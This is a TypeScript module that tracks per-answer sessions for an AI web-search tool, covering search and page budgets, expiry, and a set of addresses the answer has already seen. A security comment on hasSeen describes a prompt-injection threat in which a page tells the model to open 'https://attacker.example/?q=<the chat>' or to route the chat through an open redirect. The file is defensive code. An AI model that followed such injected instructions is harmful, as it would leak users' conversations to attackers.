import { createHash, randomBytes } from 'node:crypto';
import { AnswerNotFoundError } from './errors.ts';
import { addressesInMessage } from './message-hosts.ts';
import { SeenAddresses } from './seen-addresses.ts';
import { SourceLedger } from './source-ledger.ts';

/** Per-answer budgets. */
export interface Budgets {
  /** Searches (backend queries) an answer may run; default 16. */
  searches: number;
  /** Page reads (read calls) an answer may make; default 12. */
  pages: number;
}

/** The budgets of the design: 16 searches and 12 pages per answer. */
export const DEFAULT_BUDGETS: Readonly<Budgets> = { searches: 16, pages: 12 };

/** A budget snapshot, as every search and read response reports it. */
export interface BudgetState {
  searches: { used: number; limit: number };
  pages: { used: number; limit: number };
}

/** Options of {@link AnswerSessions}. */
export interface AnswerSessionsOptions {
  /** Idle time after which an answer expires (default one hour). */
  ttlMs?: number;
  /** Most answers kept; the least recently used is dropped first (default 1,000). */
  maxSessions?: number;
  /** Budgets of a new answer. */
  budgets?: Partial<Budgets>;
  /** Most addresses one answer may accumulate as seen (default 5,000). */
  maxSeenAddresses?: number;
  /** Clock (default `Date.now`). */
  now?: () => number;
}

/**
 * One answer in progress: the addresses it has seen (rule 1), its source ledger and its budgets.
 */
export class AnswerSession {
  /** The random id the browser sends back with every call. */
  readonly id: string;
  /**
   * A short tag derived from the id, for logs: the same for every fetch of this answer, and useless
   * as the id (which unlocks the answer's seen hosts and budgets, so it is never logged).
   */
  readonly logTag: string;
  /** Numbers the answer's sources. */
  readonly ledger = new SourceLedger();
  /** The budgets this answer started with. */
  readonly budgets: Readonly<Budgets>;
  /** When the answer was last used (ms, the sessions' clock). */
  lastUsed: number;
  #searchesUsed = 0;
  #pagesRead = 0;
  readonly #seen: SeenAddresses;

  /** @internal Created by {@link AnswerSessions.create}. */
  constructor(id: string, budgets: Readonly<Budgets>, now: number, maxSeenAddresses: number) {
    this.id = id;
    this.logTag = createHash('sha256').update(id).digest('hex').slice(0, 12);
    this.budgets = budgets;
    this.lastUsed = now;
    this.#seen = new SeenAddresses({ maxAddresses: maxSeenAddresses });
  }

  /**
   * Adds an address this answer may read: a search result's, one the user wrote, or a link on a page
   * it read. Text that is not an absolute http(s) address is ignored.
   * @param url - an absolute address.
   */
  markSeen(url: string): void {
    this.#seen.markSeen(url);
  }

  /**
   * Whether this exact address (normalised: scheme and host case, default port, trailing slash,
   * fragment) appeared in this answer's search results, the user's message or the links of a page it
   * read.
   * @param url - an absolute address.
   *
   * @remarks Security: rule 1 (only addresses the answer has already seen, verbatim). Threat: data
   * leaking out through the address — a page telling the model to open
   * `https://attacker.example/?q=<the chat>`, or to put the chat in the query of an address on a host
   * the answer has seen (an open redirect there, or the injecting page's own host). An address the
   * model composed or changed is not in this set, whatever its host.
   */
  hasSeen(url: string): boolean {
    return this.#seen.hasSeen(url);
  }

  /**
   * Whether some address on this host was seen; only for wording a refusal, never for allowing a read.
   * @param host - a host name or IP literal.
   */
  hasSeenHost(host: string): boolean {
    return this.#seen.hasSeenHost(host);
  }

  /** How many addresses are in the seen set. */
  get seenCount(): number {
    return this.#seen.size;
  }

  /**
   * Takes up to `wanted` searches from the budget and returns how many were granted (0 when spent).
   * @param wanted - searches this call would like to run.
   */
  takeSearches(wanted: number): number {
    const granted = Math.max(0, Math.min(wanted, this.budgets.searches - this.#searchesUsed));
    this.#searchesUsed += granted;
    return granted;
  }

  /** Takes one page read from the budget; false when it is spent. */
  takePage(): boolean {
    if (this.#pagesRead >= this.budgets.pages) return false;
    this.#pagesRead++;
    return true;
  }

  /** Gives back a page read taken with {@link takePage} that read nothing (a refused address). */
  refundPage(): void {
    if (this.#pagesRead > 0) this.#pagesRead--;
  }

  /** The budget as used so far. */
  budget(): BudgetState {
    return {
      searches: { used: this.#searchesUsed, limit: this.budgets.searches },
      pages: { used: this.#pagesRead, limit: this.budgets.pages },
    };
  }

  /** The line every tool result ends with, e.g. "Searches used 3 of 16; pages read 1 of 12". */
  budgetLine(): string {
    return `Searches used ${this.#searchesUsed} of ${this.budgets.searches}; pages read ${this.#pagesRead} of ${this.budgets.pages}`;
  }
}

/**
 * The answers in progress, in memory: created from the user's message, found again by id, expired
 * after an idle hour, and bounded in number (least recently used dropped first).
 */
export class AnswerSessions {
  readonly #sessions = new Map<string, AnswerSession>();
  readonly #ttlMs: number;
  readonly #maxSessions: number;
  readonly #budgets: Readonly<Budgets>;
  readonly #maxSeenAddresses: number;
  readonly #now: () => number;

  /** @param options - lifetime, bounds, budgets and clock. */
  constructor(options: AnswerSessionsOptions = {}) {
    this.#ttlMs = options.ttlMs ?? 60 * 60 * 1000;
    this.#maxSessions = Math.max(1, options.maxSessions ?? 1000);
    this.#budgets = Object.freeze({ ...DEFAULT_BUDGETS, ...options.budgets });
    this.#maxSeenAddresses = options.maxSeenAddresses ?? 5000;
    this.#now = options.now ?? Date.now;
  }

  /**
   * Starts an answer for a user message: a fresh random id, the addresses the message holds already seen.
   * @param message - the user's message (only its addresses are kept, not the text).
   */
  create(message: string): AnswerSession {
    this.#sweep();
    while (this.#sessions.size >= this.#maxSessions) {
      const oldest = this.#sessions.keys().next().value;
      if (oldest === undefined) break;
      this.#sessions.delete(oldest);
    }
    const session = new AnswerSession(randomBytes(16).toString('base64url'), this.#budgets, this.#now(), this.#maxSeenAddresses);
    for (const address of addressesInMessage(message)) session.markSeen(address);
    this.#sessions.set(session.id, session);
    return session;
  }

  /**
   * The answer with this id, marked as just used.
   * @param id - the id from {@link create}.
   * @throws AnswerNotFoundError when the id is unknown, was dropped, or has expired.
   */
  get(id: string): AnswerSession {
    const session = this.#sessions.get(id);
    if (!session) throw new AnswerNotFoundError();
    if (this.#now() - session.lastUsed > this.#ttlMs) {
      this.#sessions.delete(id);
      throw new AnswerNotFoundError();
    }
    session.lastUsed = this.#now();
    this.#sessions.delete(id);
    this.#sessions.set(id, session);
    return session;
  }

  /** The budgets each new answer gets. */
  get budgets(): Readonly<Budgets> {
    return this.#budgets;
  }

  /** How many answers are held. */
  get size(): number {
    return this.#sessions.size;
  }

  /** Drops expired answers; the map is in last-use order, so they are all at the front. */
  #sweep(): void {
    const now = this.#now();
    for (const [id, session] of this.#sessions) {
      if (now - session.lastUsed <= this.#ttlMs) break;
      this.#sessions.delete(id);
    }
  }
}
